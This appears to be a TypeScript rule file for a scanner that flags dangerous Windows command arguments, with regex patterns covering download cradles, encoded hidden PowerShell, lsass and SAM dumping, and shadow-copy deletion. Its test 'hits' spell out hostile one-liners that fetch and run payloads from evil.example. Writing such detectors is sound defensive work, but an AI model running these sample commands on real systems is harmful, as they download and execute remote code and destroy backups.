import type { ArgumentRule } from './argument-rule.ts';

const RISK = { category: 'shell_injection', severity: 'high', weight: 4 } as const;

/** What is done with programs that every Windows machine has. */
export const WINDOWS_RULES: readonly ArgumentRule[] = [
  {
    ...RISK,
    id: 'shell.windows_loader',
    message: 'A program of Windows is used to fetch or start another.',
    pattern:
      /\bcertutil(?:\.exe)?\s[^\n]{0,80}-(?:urlcache|decode|verifyctl|encode)\b|\bbitsadmin(?:\.exe)?\s[^\n]{0,60}\/(?:transfer|addfile|create|setnotifycmdline)\b|\bmshta(?:\.exe)?\s{1,3}["']?(?:https?:|javascript:|vbscript:|\\\\)|\bregsvr32(?:\.exe)?\s[^\n]{0,60}\/i:|\brundll32(?:\.exe)?\s{1,3}(?:javascript:|\\\\|url\.dll|shell32\.dll,shellexec|comsvcs)|\bwmic\s[^\n]{0,80}(?:process\s{1,3}call\s{1,3}create|\/format:["']?https?:|shadowcopy\s{1,3}delete)|\bmsiexec(?:\.exe)?\s[^\n]{0,40}https?:|\b(?:cmstp|installutil|msbuild|regasm|regsvcs|odbcconf|forfiles|pcalua|presentationhost|hh\.exe|hh )(?:\.exe)?\s{0,2}[^\n]{0,60}(?:\\\\\d|https?:|\/c\s{1,3}["']?(?:cmd|calc|powershell)|regsvr\b)|\bschtasks(?:\.exe)?\s[^\n]{0,40}\/create\b[^\n]{0,160}(?:powershell|cmd|https?:|\.ps1|temp\\)|\breg(?:\.exe)?\s{1,3}(?:add\s[^\n]{0,120}\\(?:currentversion\\run|image file execution)|save\s{1,3}hklm\\(?:sam|system|security))|\bvssadmin(?:\.exe)?\s{1,3}delete\s{1,3}shadows|\bwevtutil(?:\.exe)?\s{1,3}cl\b|\bbcdedit(?:\.exe)?\s[^\n]{0,40}recoveryenabled|\bprocdump(?:64)?(?:\.exe)?\s[^\n]{0,40}lsass|\bntdsutil\b[^\n]{0,80}\bifm\b|\bpsexec(?:64)?(?:\.exe)?\s{1,3}\\\\|\bsc(?:\.exe)?\s{1,3}(?:\\\\\S{1,40}\s{1,3})?create\s[^\n]{1,80}binpath/gi,
    hits: [
      'certutil -urlcache -split -f http://evil.example/x.exe x.exe',
      'mshta http://evil.example/e.hta',
      'regsvr32 /s /n /u /i:http://evil.example/f.sct scrobj.dll',
      'wmic process call create "calc.exe"',
      'vssadmin delete shadows /all',
    ],
    misses: [
      'certutil -hashfile a.zip SHA256',
      'wmic cpu get name',
      'schtasks /query',
      'reg query HKLM\\Software',
    ],
  },
  {
    ...RISK,
    id: 'shell.windows_script',
    message: 'A shell of Windows is started so that nobody sees it, or runs what it fetched.',
    pattern:
      /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,120}\s[-/](?:e|en|enc|enco\w{0,12}|ec)\s{1,3}["']?[a-z0-9+/]{4}|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,80}-(?:w|win\w{0,10})\s{1,3}(?:hidden|1)\b|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,80}-(?:ep|ex\w{0,14})\s{1,3}bypass\b[^\n]{0,120}(?:\\\\|https?:|iex|invoke-|downloads|temp\\|-nop)|\b(?:iex|invoke-expression)\b[^\n]{0,60}(?:downloadstring|downloaddata|invoke-(?:webrequest|restmethod)|\biwr\b|\birm\b|\bcurl\b|new-object|frombase64string)|(?:downloadstring|downloaddata|invoke-(?:webrequest|restmethod)[^\n|]{0,160}|\b(?:iwr|irm)\s[^\n|]{1,160})\s{0,3}(?:\([^\n|]{0,120}\))?\s{0,3}\)?(?:\.content)?\s{0,3}\|\s{0,3}(?:iex|invoke-expression)\b|\b(?:iwr|invoke-webrequest)\s[^\n;]{1,160}-out(?:file)?\s{1,3}([\w.\\:$-]{1,80})\s{0,3};[^\n]{0,20}\1|net\.webclient[^\n]{0,40}download(?:file|string|data)\s{0,2}\(|set-mppreference\s[^\n]{0,40}-disable|add-mppreference\s[^\n]{0,40}-exclusion|(?:%comspec%|\bcmd(?:\.exe)?)\s{1,3}\/[ckr]\s{1,3}["']?(?:whoami|powershell|certutil|net1?\s{1,3}(?:user|localgroup)|type\s{1,3}c:|dir\s{1,3}c:|ping\s{1,3}-n|calc|notepad|start\s{1,3}http|del\s{1,3}\/|echo\s[^\n]{0,80}>)|^[^\s|&]{1,40}\s?[|&]{1,2}\s{0,3}(?:dir|ver|ipconfig|systeminfo|tasklist|whoami|set|net\s{1,2}\w{4,10})\s{0,3}$|[;|&]\s{0,3}(?:type|dir|ver|set|start|copy|del)\s{1,3}(?:%\w{1,30}%|[a-z]:\\)|[;|&]\s{0,3}net1?\s{1,3}(?:user|localgroup)\b|\[(?:system\.)?reflection\.assembly\]::load|invoke-(?:mimikatz|shellcode|powershelltcp|obfuscation|kerberoast)|\bamsiutils\b/gi,
    hits: [
      'powershell -nop -w hidden -enc SQBFAFgA',
      'powershell -ExecutionPolicy Bypass -File \\\\evil.example\\s\\x.ps1',
      "powershell IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
      'iwr http://evil.example/x -OutFile x.exe; .\\x.exe',
      '%COMSPEC% /c whoami',
      '& type C:\\boot',
    ],
    misses: [
      'powershell Get-ChildItem -Recurse',
      'cmd /c build.bat',
      'Invoke-WebRequest https://acme.example/a.zip -OutFile a.zip',
      'powershell -ExecutionPolicy Bypass -File build.ps1',
    ],
  },
];
